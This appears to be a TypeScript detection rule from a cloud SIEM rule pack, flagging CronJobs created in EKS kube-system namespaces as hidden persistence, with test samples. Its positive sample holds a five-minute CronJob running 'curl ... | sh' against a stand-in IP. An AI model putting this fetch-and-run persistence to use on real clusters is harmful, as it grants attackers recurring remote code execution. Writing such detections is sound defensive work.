import type { DetectionRuleProps } from "../../modules/cloud-siem/rule-model";
import { EKS_AUDIT, IDENTIFY_USER, IF_UNEXPECTED, NOT_PLATFORM, SUCCEEDED, ruleMessage } from "../pack-helpers";
import { DEVELOPER, KUBERNETES_ADMIN, eksIdentity, sample } from "../samples";

export const rule: DetectionRuleProps = {
  id: "kube-system-cronjob",
  name: "EKS: CronJob created in kube-system",
  detectionMethod: "threshold",
  tactic: "TA0003-persistence",
  technique: "T1053.007-container-orchestration-job",
  queries: [
    {
      query: `${EKS_AUDIT} @objectRef.resource:cronjobs @objectRef.namespace:(kube-system OR kube-public) @http.method:(create OR update OR patch) ${SUCCEEDED} ${NOT_PLATFORM}`,
      groupByFields: ["@usr.name"],
    },
  ],
  cases: [{ status: "high", condition: "a > 0" }],
  message: ruleMessage(
    "Detect CronJobs created or changed in `kube-system`/`kube-public`: scheduled persistence hidden among system workloads.",
    "Successful create/update/patch of cronjobs in those namespaces, platform identities excluded.",
    [IDENTIFY_USER, "Inspect the schedule, image, command and service account in `@requestObject`.", IF_UNEXPECTED],
  ),
  samples: {
    positive: [
      sample("kubernetes-admin creates a CronJob in kube-system", {
        verb: "create",
        resource: "cronjobs",
        apiGroup: "batch",
        namespace: "kube-system",
        name: "cleanup",
        user: KUBERNETES_ADMIN,
        requestObject: {
          kind: "CronJob",
          apiVersion: "batch/v1",
          metadata: { name: "cleanup", namespace: "kube-system" },
          spec: {
            schedule: "*/5 * * * *",
            jobTemplate: {
              spec: {
                template: {
                  spec: {
                    containers: [{ name: "c", image: "curlimages/curl:8.5.0", command: ["sh", "-c", "curl -s http://203.0.113.50/p | sh"] }],
                    restartPolicy: "OnFailure",
                  },
                },
              },
            },
          },
        },
      }),
    ],
    negative: [
      sample("a CronJob in an application namespace", {
        verb: "create",
        resource: "cronjobs",
        apiGroup: "batch",
        namespace: "web",
        name: "report",
        user: DEVELOPER,
      }),
      sample("EKS addon manager (excluded identity) creating a CronJob in kube-system", {
        verb: "create",
        resource: "cronjobs",
        apiGroup: "batch",
        namespace: "kube-system",
        name: "addon-job",
        user: eksIdentity("addon-manager"),
      }),
      sample("the CronJob creation denied (403)", {
        verb: "create",
        resource: "cronjobs",
        apiGroup: "batch",
        namespace: "kube-system",
        name: "cleanup",
        user: DEVELOPER,
        code: 403,
      }),
    ],
  },
};
